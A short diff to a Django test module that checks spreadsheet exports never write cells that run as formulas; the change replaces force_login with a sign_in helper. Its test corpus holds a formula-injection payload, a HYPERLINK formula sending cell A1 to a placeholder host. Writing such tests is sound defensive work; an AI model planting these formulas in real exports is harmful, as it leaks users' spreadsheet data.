@@ -31,6 +31,7 @@ from pilar.imports.models import Upload
 from pilar.regions.models import Region
 from pilar.workforce.models import Institution, Worker
 from tests.access_matrix import ROUTES, SUPERVISORS, Subject
+from tests.personas import sign_in
 
 CORPUS = [
     '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
@@ -120,8 +121,8 @@ def test_no_export_writes_a_cell_that_runs_as_a_formula(
     subject = Subject("village_a")
     plant(payload, subject)
     admin, supervisor = Client(), Client()
-    admin.force_login(people["admin"])
-    supervisor.force_login(people["operator_regency"])
+    sign_in(admin, people["admin"])
+    sign_in(supervisor, people["operator_regency"])
     answers = []
     for name in EXPORTS:
         browser = supervisor if ROUTES[name].kind == SUPERVISORS else admin
